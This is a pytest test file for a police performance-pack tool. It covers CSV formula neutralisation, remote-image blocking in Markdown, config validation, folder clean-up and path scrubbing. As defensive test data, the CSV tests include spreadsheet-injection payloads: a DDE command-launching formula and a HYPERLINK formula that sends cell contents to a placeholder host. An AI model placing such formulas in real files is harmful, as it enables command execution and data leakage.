"""The pieces that keep a pack safe, without running one: CSV cells a spreadsheet would run,
Markdown images, the strict configuration checks, the pack folder's ownership, marks and swap,
and local paths in what is published."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pandas as pd
import pytest

from perfpack import config_checks
from perfpack.config import ConfigError, load_config
from perfpack.csv_cells import neutralise, restore, restore_frame, write_csv
from perfpack.execution import pack_folder
from perfpack.present.markdown import image_problems, is_remote, to_html
from perfpack.publish.export import local_path_pairs, without_local_paths

ROOT = Path(__file__).resolve().parents[2]


# ---- CSV -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("https://x.example/?"&A1,"x")', "'=1", "''@x", "-", "=", "-inf", "+"]
)
def test_formula_like_text_is_quoted_and_comes_back_as_written(text):
    safe = neutralise(text)
    assert safe.startswith("'") and restore(safe) == text


@pytest.mark.parametrize("value", ["-12", "-1.5", "1e-05", "+5", "0", -3, -2.5, "hello", "'plain", "a=b", "", " -1"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value and restore(neutralise(value)) == value


def test_a_frame_written_and_read_back_is_the_same(tmp_path):
    df = pd.DataFrame({"label": ["=cmd|' /C calc'!A0", "fine", "-x", "'=y"], "current": [-5, 3, None, 1.5], "text_number": ["-7", "8", "x", "y"]})
    path = write_csv(df, tmp_path / "f.csv")
    raw = path.read_text(encoding="utf-8")
    assert "'=cmd" in raw and ",-5" in raw and "'-x" in raw and ",-7" in raw
    back = restore_frame(pd.read_csv(path, dtype=str, keep_default_na=False))
    assert list(back["label"]) == list(df["label"]) and list(back["text_number"]) == ["-7", "8", "x", "y"]
    assert not list(tmp_path.glob(".*.tmp")), "the temporary file is renamed into place"


# ---- Markdown --------------------------------------------------------------------------------


def test_markdown_fetches_no_image_and_names_each_by_line():
    text = "Intro\n\n![pixel](https://t.example/p.png)\n\n![](//host/x.png) ![ok](data:image/png;base64,AAAA)\n\n![ref][r]\n\n[r]: http://r.example/a.png\n\n![local](chart.png) ![share](\\\\server\\share\\x.png)\n<img src=https://raw.example/x.png>\n"
    html = to_html(text)
    assert "t.example" not in html and "//host" not in html and "r.example" not in html and "chart.png" not in html and "server" not in html
    assert "[image not shown: pixel]" in html and '<img src="data:image/png;base64,AAAA" alt="ok" />' in html
    assert "&lt;img" in html, "raw HTML is shown as text, never parsed"
    found = image_problems(text)
    assert [line for line, _, _ in found] == [3, 5, 9, 11, 11]
    assert [url for _, url, _ in found][:4] == ["https://t.example/p.png", "//host/x.png", "http://r.example/a.png", "chart.png"]
    assert [remote for _, _, remote in found] == [True, True, True, False, True]


@pytest.mark.parametrize(
    "url,remote",
    [
        ("https://a/b", True),
        ("HTTP://a", True),
        ("//a/b", True),
        ("ftp://a", True),
        ("file:///etc/x", True),
        ("\\\\srv\\x", True),
        ("data:image/png;base64,AA", False),
        ("x.png", False),
        ("../x.png", False),
    ],
)
def test_what_counts_as_remote(url, remote):
    assert is_remote(url) is remote


# ---- configuration ---------------------------------------------------------------------------


def _problems(edit) -> list[str]:
    import yaml

    text = edit((ROOT / "profiles" / "demo" / "pack.yaml").read_text(encoding="utf-8"))
    return config_checks.check(yaml.safe_load(text), Path("pack.yaml"), text)


def test_the_shipped_configuration_passes():
    assert _problems(lambda t: t) == []


@pytest.mark.parametrize(
    "old,new,says",
    [
        ("threshold: 10", "threshold: ten", "'disclosure.threshold' is the text 'ten'"),
        ("threshold: 10", "threshold: 2.5", "'disclosure.threshold' is 2.5; it must be a whole number"),
        ("threshold: 10", "threshold: true", "'disclosure.threshold' is true"),
        ("alpha: 0.05", "alpha: 5", "'statistics.alpha' is 5"),
        ("alpha: 0.05", "alpha: .nan", "'statistics.alpha' is nan"),
        ("fork_kernels: true", 'fork_kernels: "no"', "'runner.fork_kernels' is the text 'no'"),
        ("fork_kernels: true", "fork_kernels: 1", "'runner.fork_kernels' is 1"),
        ("timeout_seconds: 600", "timeout_seconds: 0", "'runner.timeout_seconds' is 0"),
        ("  periods:\n", "  periods: 3\n  x:\n", "'covid.periods' is 3"),
        (
            "start: 2020-03-16\n      end: 2020-07-03",
            "start: 2020-07-16\n      end: 2020-07-03",
            "covid.periods[0] ends (2020-07-03) before it starts (2020-07-16)",
        ),
        ("fpn_start: 2020-03-01", "fpn_start: March 2020", "'windows.fpn_start' is the text 'March 2020'; it must be a date"),
        ("    - Tamworth\n", "    - Tamworth\n    - Tamworth\n", "Tamworth appears twice"),
        ("  npas:", "  npa:", "unknown setting 'force.npa'; the pack would ignore it. Did you mean 'force.npas'?"),
        ("statistics:", "statistic:", "Did you mean 'statistics'?"),
        # the settings of force profiles, Covid-19 bases, wording, peers, the paper and revisions
        (
            "  compare_with: before_pandemic\n",
            "  compare_with: sometimes\n",
            "'covid.compare_with' is the text 'sometimes'; it must be one of year_earlier, before_pandemic",
        ),
        ("  group: []", "  grup: []", "unknown setting 'peers.grup'; the pack would ignore it. Did you mean 'peers.group'?"),
        ("  group: []", "  group: Derbyshire", "'peers.group' is the text 'Derbyshire'; it must be a list of text items"),
        ('  dir: ""', "  dir: 5", "'peers.dir' is 5; it must be text"),
        ("  final: false", '  final: "yes"', "'paper.final' is the text 'yes'; it must be true or false"),
        ("  leave_out:", "  leave_outs:", "Did you mean 'paper.leave_out'?"),
        ("material_pct: 1.0", "material_pct: -1", "'revisions.material_pct' is -1; it must be a number at least 0"),
        ("  asb: ", "  asb_words: ", "unknown setting 'wording.asb_words'"),
        ("  area_short: NPA", "  area_short: 5", "'force.area_short' is 5"),
        ("    policeuk: staffordshire", "    police_uk: staffordshire", "Did you mean 'force.sources.policeuk'?"),
        ("  name: demo", "  name: demo\n  derived: maybe", "'profile.derived' is the text 'maybe'"),
    ],
)
def test_every_mistake_is_named_with_its_line(old, new, says):
    found = _problems(lambda t: t.replace(old, new, 1))
    assert any(says in p for p in found), found
    assert all(p.startswith("pack.yaml") for p in found)


def test_load_config_refuses_with_every_problem_at_once(tmp_path):
    text = (ROOT / "profiles" / "demo" / "pack.yaml").read_text(encoding="utf-8").replace("threshold: 10", "threshold: ten").replace("alpha: 0.05", "alpha: 5")
    (tmp_path / "pack.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as e:
        load_config(tmp_path / "pack.yaml")
    assert "has 2 problems; nothing was run" in str(e.value) and "line" in str(e.value)


# ---- the pack folder -------------------------------------------------------------------------


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def test_only_a_folder_the_pack_made_is_replaceable(tmp_path):
    final = tmp_path / "2020-Q4"
    assert pack_folder.check_replaceable(final, "2020-Q4") is None
    final.mkdir()
    (final / "crimes.csv").write_text("x")
    with pytest.raises(pack_folder.PackFolderError, match="was not made by the pack"):
        pack_folder.check_replaceable(final, "2020-Q4")
    (final / "manifest.json").write_text(json.dumps({"period": "2020-Q4", "sections": [], "files": ["manifest.json"]}))
    with pytest.raises(pack_folder.PackFolderError, match="also holds 1 file the pack did not make"):
        pack_folder.check_replaceable(final, "2020-Q4")
    (final / "crimes.csv").unlink()
    (final / ".DS_Store").write_text("")
    assert pack_folder.check_replaceable(final, "2020-Q4")["period"] == "2020-Q4"
    (final / "manifest.json").write_text(json.dumps({"period": "2020-Q3", "sections": []}))
    with pytest.raises(pack_folder.PackFolderError, match="naming the period 2020-Q4"):
        pack_folder.check_replaceable(final, "2020-Q4")


def test_clean_up_removes_only_marked_folders_of_ended_runs(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    out = tmp_path / "out"
    out.mkdir()
    dead = _dead_pid()
    ours = out / ".build-2020-Q4-aaaa1111"
    ours.mkdir()
    (ours / pack_folder.RUN_MARK).write_text(json.dumps({"run_id": "20210101T000000-aaaa1111", "pid": dead, "kind": "build"}))
    live = out / ".build-2020-Q4-bbbb2222"
    live.mkdir()
    (live / pack_folder.RUN_MARK).write_text(json.dumps({"run_id": "20210101T000000-bbbb2222", "pid": os.getpid(), "kind": "build"}))
    copied_mark = out / ".build-2020-Q4-cccc3333"
    copied_mark.mkdir()
    (copied_mark / pack_folder.RUN_MARK).write_text((ours / pack_folder.RUN_MARK).read_text())  # a mark for another name
    unmarked = [
        out / ".old-stuff-4000000-x",
        out / f".build-2020-Q4-{dead}-abcdef",
        tmp_path / "tmp" / "perfpack-export-2021-01",
        tmp_path / "tmp" / f"perfpack-run-{dead}-x",
        tmp_path / "tmp" / f"perfpack-run_{dead}_x",
    ]
    for f in unmarked:
        f.mkdir()
    scratch = tmp_path / "tmp" / "perfpack-run_aaaa1111_q"
    scratch.mkdir()
    (scratch / pack_folder.RUN_MARK).write_text(json.dumps({"run_id": "20210101T000000-aaaa1111", "pid": dead, "kind": "scratch"}))
    removed = pack_folder.clean_debris(out)
    assert set(removed) == {ours, scratch}
    assert live.is_dir() and copied_mark.is_dir() and all(f.is_dir() for f in unmarked)


def test_a_swap_cut_short_is_undone_by_the_next_run(tmp_path):
    out = tmp_path / "out"
    old = out / ".old-2020-Q4-dddd4444"
    old.mkdir(parents=True)
    (old / "manifest.json").write_text("{}")
    (out / ".perfpack-swap-dddd4444.json").write_text(json.dumps({"pid": _dead_pid(), "final": "2020-Q4", "old": old.name, "build": ".build-2020-Q4-dddd4444"}))
    pack_folder.clean_debris(out)
    assert (out / "2020-Q4" / "manifest.json").is_file() and not old.exists() and not list(out.glob(".perfpack-swap-*"))


# ---- local paths -----------------------------------------------------------------------------


def test_local_folders_are_replaced_longest_first_everywhere():
    pairs = local_path_pairs({"/tmp/perfpack-run-x/data": "data/demo", "/tmp/perfpack-run-x": "run-folder", str(ROOT): ""})
    nb = {
        "cells": [
            {
                "source": "data_dir = '/tmp/perfpack-run-x/data'",
                "outputs": [{"traceback": [f"File {ROOT}/lib/perfpack/x.py:3", f"{sys.prefix}/lib/python3.11/site-packages/a.py"]}],
            }
        ],
        "metadata": {"papermill": {"output_path": "/tmp/perfpack-run-x/out.ipynb"}},
    }
    clean = json.dumps(without_local_paths(nb, pairs))
    assert "/tmp/" not in clean and str(ROOT) not in clean and sys.prefix not in clean
    assert "data_dir = 'data/demo'" in clean and "File lib/perfpack/x.py:3" in clean and "<python>/lib/python3.11" in clean and "run-folder/out.ipynb" in clean


def test_whole_numbers_stay_whole_beside_empty_cells(tmp_path):
    df = pd.DataFrame({"current": pd.Series([7434, None, -3], dtype=object), "label": ["a", "=b", None]})
    text = write_csv(df, tmp_path / "f.csv").read_text(encoding="utf-8")
    assert text.splitlines() == ["current,label", "7434,a", ",'=b", "-3,"]


def test_an_older_clean_up_cannot_take_a_running_runs_folders(tmp_path, monkeypatch):
    """Versions of the pack before run marks removed any ``$TMPDIR/perfpack-*-*-*`` folder
    whose next-to-last part read as the number of an ended process: a run's folders never
    match that, whatever its random tag (all digits, say), so an older version running on the
    same machine cannot delete a run's copy of the data while it runs."""
    import fnmatch

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    scratch = pack_folder.make_scratch("20210101T000000-33930842")
    sockets = pack_folder.socket_folder(tmp_path / ("x" * 120), "20210101T000000-33930842")
    for folder in (scratch, sockets):
        assert not fnmatch.fnmatch(folder.name, "perfpack-*-*-*"), folder.name
    import shutil

    shutil.rmtree(sockets, ignore_errors=True)


def test_the_profile_template_and_an_empty_group_pass():
    """What ``perfpack init-force`` writes (an empty list of areas: derived from the data) and
    a group left empty (``peers:`` with nothing under it) are valid."""
    from perfpack.profiles import template_raw

    raw = template_raw("Gwent Police")
    assert config_checks.check(raw, Path("pack.yaml")) == []
    raw["peers"] = None
    assert config_checks.check(raw, Path("pack.yaml")) == []


def test_a_partial_run_checks_the_commentary_of_the_sections_it_keeps(tmp_path):
    """The meeting paper carries every section's commentary, so a partial run checks them all
    (a kept section's commentary saved as Windows-1252 is named, not a paper that fails)."""
    import shutil

    from perfpack.pages.preflight import check_inputs
    from perfpack.periods import Period

    profile = shutil.copytree(ROOT / "profiles" / "demo", tmp_path / "p", ignore=shutil.ignore_patterns("commentary"))
    (profile / "commentary" / "2020-Q4").mkdir(parents=True)
    (profile / "commentary" / "2020-Q4" / "01-all-crime.md").write_bytes("Caf\xe9\n".encode("cp1252"))
    (profile / "paper").mkdir()
    (profile / "paper" / "foreword.md").write_text("Hello ![](https://t.example/p.png)\n", encoding="utf-8")
    config = load_config(profile / "pack.yaml")
    period = Period.parse("2020-Q4")
    found = check_inputs(config, period, ["03-violent-crime"], ["01-all-crime", "03-violent-crime"])
    assert len(found) == 2, found
    assert "01-all-crime.md: 1 line is not UTF-8 text" in found[0] and "in Notepad" in found[0] and "Excel" not in found[0]
    assert "foreword.md, line 1: an image from 'https://t.example/p.png'" in found[1] and "remove the image from the file" in found[1]
    assert check_inputs(config, period, ["03-violent-crime"]) == [found[1]], "a section not in the pack is not read"


def test_a_setting_written_twice_is_refused_with_both_lines(tmp_path):
    text = (ROOT / "profiles" / "demo" / "pack.yaml").read_text(encoding="utf-8").replace("  alpha: 0.05\n", "  alpha: 0.05\n  alpha: 0.5\n")
    line = text.splitlines().index("  alpha: 0.5") + 1
    (tmp_path / "pack.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as e:
        load_config(tmp_path / "pack.yaml")
    assert f"pack.yaml, line {line}: the setting 'alpha' is written twice in the same group (on lines {line - 1} and {line})" in str(e.value)


def test_out_may_not_be_a_pack_or_inside_one(tmp_path):
    pack = tmp_path / "outputs" / "2020-Q4"
    pack.mkdir(parents=True)
    (pack / "manifest.json").write_text(json.dumps({"period": "2020-Q4", "sections": []}))
    pack_folder.check_out_root(tmp_path / "outputs")  # the folder that holds the packs
    for out in (pack, pack / "notebooks"):
        with pytest.raises(pack_folder.PackFolderError, match="a published 2020-Q4 pack"):
            pack_folder.check_out_root(out)
